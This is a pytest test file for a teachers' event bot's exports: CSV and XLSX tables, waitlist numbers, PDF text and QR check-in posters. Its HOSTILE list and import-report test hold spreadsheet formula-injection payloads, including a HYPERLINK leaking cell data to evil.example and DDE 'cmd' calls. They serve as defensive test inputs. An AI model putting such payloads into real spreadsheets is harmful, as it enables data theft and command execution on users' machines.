"""Files the bot hands out: tables (no live formulas), the waitlist column, PDF text (no empty
boxes for emoji), the route PDF's creation date and the check-in poster."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.imports import ImportOutcome
from core.i18n import LOCALES_DIR, CatalogI18n
from db.reference.sample_events import TRICKY_TITLE
from domain.event_import import Err, Problem, RowReport
from domain.events import RegStatus, waitlist_numbers
from handlers.event_import import report_csv
from tests.pdftext import read_pdf
from ui.files.pdf import RouteCompetencyBlock, RouteDocument, RouteStepRow, pdf_text, route_pdf
from ui.files.qr import CheckinPoster, checkin_poster, checkin_poster_pdf
from ui.files.tables import csv_bytes, safe_cell, safe_text, xlsx_bytes

MSK = ZoneInfo("Europe/Moscow")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1;"клик")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",
    "＝1+2",  # full-width equals sign
]


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


# --------------------------------------------------------------------------- tables


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Иванова Анна", "СОШ № 5", "a=b", "O'Neil", "-5", "+7", "-1,5", "12.5", "1e3", "—"],
)
def test_ordinary_text_and_plain_numbers_are_kept(text: str) -> None:
    assert safe_text(text) == text


def test_real_numbers_and_dates_stay_what_they_are() -> None:
    day = datetime(2026, 12, 12, tzinfo=UTC)
    assert [safe_cell(v) for v in (-5, 2.5, None, day)] == [-5, 2.5, None, day]


def test_csv_bytes_neutralises_every_hostile_cell() -> None:
    data = csv_bytes([["name", "n"], *([text, -3] for text in HOSTILE)])
    table = _csv(data)
    assert table[0] == ["name", "n"]
    assert [row[0] for row in table[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in table[1:]} == {"-3"}


def test_xlsx_bytes_never_writes_a_formula() -> None:
    data = xlsx_bytes([["name", "rating"], *([text, 5] for text in HOSTILE)], title="Участники")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet.title == "Участники"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    rows = list(sheet.iter_rows(min_row=2))
    # the text as typed (XML reads a carriage return back as a line feed)…
    assert [row[0].value for row in rows] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in rows)  # …as text
    assert all(row[1].value == 5 and row[1].data_type == "n" for row in rows)


def test_import_report_csv_neutralises_codes_typed_in_the_file() -> None:
    outcome = ImportOutcome(
        kind="events",
        reports=(
            RowReport(2, "=cmd|' /c calc'!a0", "reject", (Problem.of(Err.BAD_CODE, "@bad"),)),
            RowReport(3, "vdn-ok", "create"),
        ),
        ok=False,
        created=0,
        updated=0,
        rejected=1,
    )
    i18n = CatalogI18n(path=LOCALES_DIR, default_locale="en")
    with i18n.context(), i18n.use_locale("en"):
        table = _csv(report_csv(outcome))
    assert table[1] == [
        "2",
        "'=cmd|' /c calc'!a0",
        "reject",
        "'@bad: use 2–32 characters: latin letters a-z, digits, _ or -",
    ]
    assert table[2] == ["3", "vdn-ok", "create", ""]


# --------------------------------------------------------------------------- waitlist


def test_waitlist_numbers_count_the_waitlisted_only() -> None:
    queue = [
        (RegStatus.ATTENDED.value, 1),
        (RegStatus.CONFIRMED.value, 2),
        (RegStatus.WAITLISTED.value, 4),
        (RegStatus.CANCELLED.value, 3),
        (RegStatus.OFFERED.value, 5),
        (RegStatus.WAITLISTED.value, 7),
    ]
    assert waitlist_numbers(queue) == {4: 1, 7: 2}
    assert waitlist_numbers([]) == {}


# --------------------------------------------------------------------------- PDF text


@pytest.mark.parametrize(
    ("text", "printed"),
    [
        (TRICKY_TITLE, 'Мастер-класс <b>«Оценка & "рубрики"»</b> O\'Neil'),
        ("🎓 Итоги года", "Итоги года"),
        ("Наставник 🧑‍🏫 и ученик 👩🏽‍🎓!", "Наставник и ученик!"),
        ("Шаг 1️⃣ из 🇷🇺", "Шаг 1 из"),
        ("Ｆｕｌｌ-width", "Full-width"),
        ("学校 № 5", "?? № 5"),
        ("✓ готово ★ «№ 5» — ⚡", "✓ готово ★ «№ 5» — ⚡"),  # DejaVu draws these
        ("две\nстроки 🎓\n🎓", "две\nстроки\n"),
    ],
)
def test_pdf_text_keeps_titles_readable_without_emoji(text: str, printed: str) -> None:
    assert pdf_text(text) == printed


def _route(title: str) -> RouteDocument:
    return RouteDocument(
        heading="Индивидуальный образовательный маршрут педагога 🧭",
        teacher_lines=[("ФИО", "Иванова Анна 🌸"), ("Школа", "МБОУ СОШ № 1")],
        meta_line="Составлен 02.03.2026 · темп: обычный · выполнено 0 из 1 шагов",
        blocks=[
            RouteCompetencyBlock(
                "Оценочная компетентность ✅",
                "Начальный уровень, 30 из 100",
                [
                    RouteStepRow(
                        "1.1", title, "Мастер-класс 🎓", "15.03.2026", "запланирован", False
                    )
                ],
            )
        ],
        column_titles=("№", "Шаг", "Форма", "Срок", "Отметка"),
        footer="Сформировано ботом",
    )


def _no_missing_glyphs(caplog: pytest.LogCaptureFixture) -> None:
    """fpdf2 logs every character its font cannot draw (and leaves a hole in the text)."""
    missing = [
        r.getMessage() for r in caplog.records if "missing the following glyphs" in r.getMessage()
    ]
    assert not missing, missing


def _lines(text: str) -> list[str]:
    return text.split("\n")


EMOJI_STEP = "🎓 Итоги года: мастер-класс 👩🏽‍🎓 наставника"


@pytest.mark.parametrize("title", [TRICKY_TITLE, EMOJI_STEP])
def test_route_pdf_prints_emoji_titles_readably_and_its_creation_date(
    title: str, caplog: pytest.LogCaptureFixture
) -> None:
    created = datetime(2026, 3, 1, 22, 30, tzinfo=UTC).astimezone(MSK)
    content = read_pdf(route_pdf(_route(title), created=created))
    _no_missing_glyphs(caplog)
    lines = _lines(content.text)
    assert "Индивидуальный образовательный маршрут педагога" in lines  # no trailing gap
    assert "Оценочная компетентность" in lines and "Иванова Анна" in lines
    assert "Мастер-класс" in lines  # the step's form, "Мастер-класс 🎓"
    flat = " ".join(content.text.split())
    assert pdf_text(title) in flat and pdf_text(title) in content.text.replace("\n", " ")
    assert "  " not in content.text and not any(line != line.strip() for line in lines)
    assert "\ufffd" not in content.text
    assert content.info["CreationDate"] == "D:20260302013000+03'00'"
    assert content.pages == 1


def test_route_pdf_needs_an_aware_creation_date() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        route_pdf(_route("Шаг"), created=datetime(2026, 3, 2, 1, 30))


# --------------------------------------------------------------------------- poster


def test_checkin_poster_texts_are_in_the_coordinators_language() -> None:
    i18n = CatalogI18n(path=LOCALES_DIR, default_locale="ru")
    with i18n.context(), i18n.use_locale("ru"):
        poster = checkin_poster(TRICKY_TITLE, "12.12.2026 10:00–12:30", "каб. 12", "K7M2QX", "x")
    assert poster.instruction == "Отсканируйте QR-код или отправьте боту /checkin K7M2QX"
    assert poster.heading == "Отметка участия" and poster.title == TRICKY_TITLE


def test_checkin_poster_is_one_a4_page_with_title_time_place_code_and_instruction(
    caplog: pytest.LogCaptureFixture,
) -> None:
    link = "https://t.me/metodbot_test_bot?start=checkin_12-K7M2QX"
    poster = CheckinPoster(
        heading="Отметка участия",
        title=TRICKY_TITLE,
        when="12.12.2026 10:00–12:30",
        place='МБОУ «Гимназия № 1», каб. 12 <2 этаж> & "актовый зал"',
        code="K7M2QX",
        link=link,
        instruction="Отсканируйте QR-код или отправьте боту /checkin K7M2QX",
    )
    data = checkin_poster_pdf(poster)
    _no_missing_glyphs(caplog)
    content = read_pdf(data)
    flat = " ".join(content.text.split())
    assert content.pages == 1 and b"/MediaBox [0 0 595.28 841.89]" in data  # A4
    assert "ОТМЕТКА УЧАСТИЯ" in _lines(content.text)
    assert 'Мастер-класс <b>«Оценка & "рубрики"»</b> O\'Neil' in flat
    assert "12.12.2026 10:00–12:30" in flat
    assert 'МБОУ «Гимназия № 1», каб. 12 <2 этаж> & "актовый зал"' in flat
    assert "K 7 M 2 Q X" in flat
    assert "Отсканируйте QR-код или отправьте боту /checkin K7M2QX" in flat
    assert link in flat
    assert "  " not in content.text and "\ufffd" not in content.text


def test_checkin_poster_fits_the_longest_title_on_one_page() -> None:
    poster = CheckinPoster(
        heading="Event check-in",
        title="Стажировка «Формирующее оценивание» 🧑‍🏫 " * 5,
        when="12.12.2026 10:00 – 13.12.2026 12:00",
        place="г. Волгодонск, ул. Академика Королёва, 6, МБОУ «Гимназия № 1», актовый зал " * 3,
        code="AB12CD",
        link="https://t.me/metodbot_test_bot?start=checkin_1-AB12CD",
        instruction="Scan the QR code or send the bot /checkin AB12CD",
    )
    content = read_pdf(checkin_poster_pdf(poster))
    assert content.pages == 1
    assert "A B 1 2 C D" in content.text and "/checkin AB12CD" in content.text
